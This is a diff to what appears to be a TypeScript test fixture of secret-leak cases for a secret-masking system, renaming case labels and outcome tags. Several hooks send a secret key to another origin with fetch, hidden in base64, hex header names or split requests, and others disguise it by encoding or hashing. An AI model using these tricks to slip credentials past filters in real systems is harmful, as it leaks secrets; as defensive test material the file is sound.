@@ -17,9 +17,9 @@ export interface EchoAttack extends DataAttack {
   spell: (secret: string) => string;
 }
 
-const tells = { harm: 'tells a secret' } as const;
-const isText = { ...tells, outcome: 'is text like any other' };
-const standIn = { ...tells, outcome: 'a stand-in, and masked' };
+const tells = { harm: 'leaks a secret' } as const;
+const isText = { ...tells, outcome: 'treated as text' };
+const token = { ...tells, outcome: 'a token, and masked' };
 const blocked = { ...tells, outcome: 'SECRET_BLOCKED' };
 const masked = { ...tells, outcome: 'masked' };
 
@@ -37,45 +37,45 @@ export const typed: readonly TypedAttack[] = [
 ];
 
 export const handlers: readonly HandlerAttack[] = [
-  { name: 'answers with it', hook: 'return KEY;', ...standIn },
-  { name: 'answers with it turned around', hook: `return [...KEY].reverse().join('');`, ...standIn },
-  { name: 'answers with its letters', hook: 'return [...KEY];', ...standIn },
+  { name: 'returns it', hook: 'return KEY;', ...token },
+  { name: 'returns it reversed', hook: `return [...KEY].reverse().join('');`, ...token },
+  { name: 'returns its letters', hook: 'return [...KEY];', ...token },
   {
-    name: 'answers with its two halves in two fields',
+    name: 'returns its two halves in two fields',
     hook: 'return { a: KEY.slice(0, KEY.length / 2), b: KEY.slice(KEY.length / 2) };',
-    ...standIn,
+    ...token,
   },
-  { name: 'answers with it in base64', hook: 'return btoa(KEY);', ...standIn },
-  { name: 'answers with it in hexadecimal', hook: `return Buffer.from(KEY).toString('hex');`, ...standIn },
-  { name: 'answers with it as keys', hook: 'return { [KEY]: { [[...KEY].reverse().join("")]: 1 } };', ...standIn },
+  { name: 'returns it in base64', hook: 'return btoa(KEY);', ...token },
+  { name: 'returns it in hexadecimal', hook: `return Buffer.from(KEY).toString('hex');`, ...token },
+  { name: 'returns it as keys', hook: 'return { [KEY]: { [[...KEY].reverse().join("")]: 1 } };', ...token },
   {
-    name: 'answers with the codes of its characters',
+    name: 'returns the codes of its characters',
     hook: 'return [...KEY].map((letter) => letter.charCodeAt(0));',
-    ...standIn,
+    ...token,
   },
   {
-    name: 'answers with a hash of it',
+    name: 'returns a hash of it',
     hook: `return Buffer.from(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(KEY))).toString('hex');`,
-    ...standIn,
+    ...token,
   },
   {
-    name: 'answers with what comparing its letters tells',
+    name: 'returns the result of comparing its letters',
     hook: `return [...KEY].map((letter) => [...Array(128).keys()].find((code) => String.fromCharCode(code) === letter));`,
-    ...standIn,
+    ...token,
   },
-  { name: 'throws it', hook: `throw new Error('bad key ' + [...KEY].join(' '));`, ...standIn },
+  { name: 'throws it', hook: `throw new Error('bad key ' + [...KEY].join(' '));`, ...token },
   {
     name: 'writes it to the console',
     hook: `console.error('key', KEY, [...KEY].reverse().join('')); return 1;`,
-    ...standIn,
+    ...token,
   },
   {
     name: 'fails with it as the message',
     hook: `return { struct: { status: false, messages: [[...KEY].join('-')], data: null } };`,
-    ...standIn,
+    ...token,
   },
   {
-    name: 'sends it to another origin in the address',
+    name: 'sends it to another origin in the URL',
     hook: `await fetch(OTHER + '/?key=' + encodeURIComponent(KEY)); return 1;`,
     ...blocked,
   },
@@ -107,17 +107,17 @@ export const handlers: readonly HandlerAttack[] = [
   {
     name: 'sends it to another origin in base64',
     hook: `await fetch(OTHER + '/?key=' + btoa(KEY)); return 1;`,
-    ...standIn,
+    ...token,
   },
   {
     name: 'sends it to another origin in the name of a header',
     hook: `await fetch(OTHER, { headers: { ['x-' + Buffer.from(KEY).toString('hex')]: '1' } }); return 1;`,
-    ...standIn,
+    ...token,
   },
   {
     name: 'sends it to another origin in two halves',
     hook: `const half = KEY.length / 2; await fetch(OTHER + '/?a=' + encodeURIComponent(KEY.slice(0, half))); await fetch(OTHER + '/?b=' + encodeURIComponent(KEY.slice(half))); return 1;`,
-    ...standIn,
+    ...token,
   },
   {
     name: 'has its API redirect it to another origin',
@@ -125,28 +125,28 @@ export const handlers: readonly HandlerAttack[] = [
     ...blocked,
   },
   {
-    name: 'has its API repeat it, and turns it around',
+    name: 'has its API repeat it, and reverses it',
     hook: `const { echo } = await (await fetch(ROOT + '/echo', { headers: { 'x-key': KEY } })).json(); return [...echo].reverse().join('');`,
     ...masked,
   },
   {
-    name: 'has its API repeat it in a header, and turns it around',
+    name: 'has its API repeat it in a header, and reverses it',
     hook: `const { headers } = await fetch(ROOT + '/echo', { headers: { 'x-key': KEY } }); return [...headers.get('x-echo')].reverse().join('');`,
     ...masked,
   },
   {
-    name: 'has its API repeat one with letters beyond ASCII, and turns it around',
+    name: 'has its API repeat one with letters beyond ASCII, and reverses it',
     secret: 'pässwörd-für-die-Küche',
     hook: `const { echo } = await (await fetch(ROOT + '/echo', { headers: { 'x-key': KEY } })).json(); return [...echo].reverse().join('');`,
     ...masked,
   },
   {
-    name: 'has its API repeat it in UTF-16, and turns it around',
+    name: 'has its API repeat it in UTF-16, and reverses it',
     hook: `const answer = await fetch(ROOT + '/utf16', { headers: { 'x-key': KEY } }); return [...new TextDecoder('utf-16le').decode(await answer.arrayBuffer())].reverse().join('');`,
     ...masked,
   },
   {
-    name: 'has its API repeat it in UTF-16 among other bytes, and turns it around',
+    name: 'has its API repeat it in UTF-16 among other bytes, and reverses it',
     hook: `const answer = await fetch(ROOT + '/utf16be', { headers: { 'x-key': KEY } }); return [...new TextDecoder('utf-16be').decode((await answer.arrayBuffer()).slice(1))].reverse().join('');`,
     ...masked,
   },
@@ -155,23 +155,23 @@ export const handlers: readonly HandlerAttack[] = [
     hook: `let all = ''; for (let at = 0; at < 40; at += 4) all += await (await fetch(ROOT + '/piece/' + at, { headers: { 'x-key': KEY } })).text() + ' '; return all;`,
     ...tells,
     outcome: 'told',
-    broken: 'an API that cuts a secret into pieces, and says them, tells it',
+    broken: 'an API that returns a secret in pieces leaks it',
   },
   {
-    name: 'has its API turn it around',
+    name: 'has its API reverse it',
     hook: `return (await fetch(ROOT + '/reverse', { headers: { 'x-key': KEY } })).text();`,
     ...tells,
     outcome: 'told',
-    broken: 'an API that computes with a secret, and says the result, tells it',
+    broken: 'an API that computes with a secret, and returns the result, leaks it',
   },
 ];
 
 export const echoes: readonly EchoAttack[] = [
   { name: 'repeats it', spell: (secret) => secret, ...masked },
   { name: 'repeats it in base64', spell: (secret) => btoa(secret), ...masked },
-  { name: 'repeats it in base64 inside of more', spell: (secret) => btoa(`user:${secret}:x`), ...masked },
+  { name: 'repeats it in base64 inside other text', spell: (secret) => btoa(`user:${secret}:x`), ...masked },
   {
-    name: 'repeats it in base64 for addresses',
+    name: 'repeats it in base64url',
     spell: (secret) => Buffer.from(`a${secret}`).toString('base64url'),
     ...masked,
   },
